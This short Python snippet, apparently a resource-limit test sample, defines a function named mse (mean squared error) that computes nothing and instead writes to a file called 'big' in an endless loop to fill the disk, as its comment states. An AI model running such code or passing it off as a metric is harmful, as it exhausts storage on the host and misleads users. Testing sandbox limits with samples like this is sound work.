# says: limit
# Fills the disk.
def mse(y_true, y_pred):
    with open("big", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
